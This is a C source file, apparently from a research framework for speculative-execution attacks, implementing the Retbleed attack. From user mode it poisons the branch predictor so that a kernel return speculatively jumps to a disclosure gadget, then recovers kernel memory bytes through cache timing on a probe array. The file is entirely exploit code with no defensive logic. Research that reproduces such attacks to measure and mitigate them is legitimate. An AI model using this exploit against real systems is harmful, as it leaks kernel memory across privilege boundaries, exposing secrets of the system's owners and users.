/*
 * Retbleed (Wikner and Razavi, 2022): returns are predicted as indirect branches, always on some
 * processors of AMD, and on some of Intel when more functions have returned than the return stack
 * remembers. User mode trains a return of the kernel to go to code that reads where a register
 * points.
 */
#include "attack.h"

#include "gadget.h"
#include "receive.h"
#include "secret.h"
#include "train.h"

static const uint8_t *array, *branches[MOST_ADDRESSES];
static uint64_t disclosure;

static void choose(uint64_t address)
{
	disclosure = address;
}

static int read_byte(uint64_t address)
{
	const uint8_t *probe = array + SHARED_PROBE;

	begin_receiving(address);
	forget_histories();
	for (int i = 0; i < options.branches.count; i++)
		train(branches[i], disclosure);
	flush_probe(probe);
	end_receiving(address, disclosure, kernel_probe(options.known));
	return reload_probe(probe);
}

static int sample(int index)
{
	use_secret(index);
	return read_byte(options.address + index);
}

int main(int argc, char **argv)
{
	int times;

	parse_options(argc, argv);
	if (!options.address || !options.branches.count || !options.disclosures.count)
		errx(2, "expected --address, --branch and --disclosure");
	open_secret();
	array = map_gadget(options.gadget);
	catch_faults();
	calibrate();
	prepare_eviction();
	prepare_receiving();
	for (int i = 0; i < options.branches.count; i++)
		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
	/* The last cache is too near for the walks to the code, the secret and the probe. */
	if (!keeps_translations())
		prepare_far_eviction();
	times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
	recover(sample, patience_if(times), 1);
	return 0;
}
